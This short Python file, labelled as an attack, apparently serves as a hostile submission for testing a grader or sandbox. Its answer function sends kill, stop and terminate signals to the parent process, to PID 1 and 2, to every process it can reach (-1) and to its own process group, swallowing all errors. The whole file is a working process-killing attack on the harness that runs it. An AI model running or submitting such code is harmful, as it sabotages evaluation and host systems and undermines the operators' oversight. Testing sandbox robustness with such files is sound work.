# attack: sends every signal to its parent and to whom it can think of
# ruff: noqa
import os


def answer(n):
    for pid in (os.getppid(), PARENT_PID, 0, -1, 1, 2, -os.getpgrp()):
        for number in (1, 2, 9, 15, 19):
            try:
                os.kill(pid, number)
            except OSError:
                pass
            except ValueError:
                pass
    try:
        os.killpg(os.getpgid(0), 9)
    except OSError:
        pass
    return 0
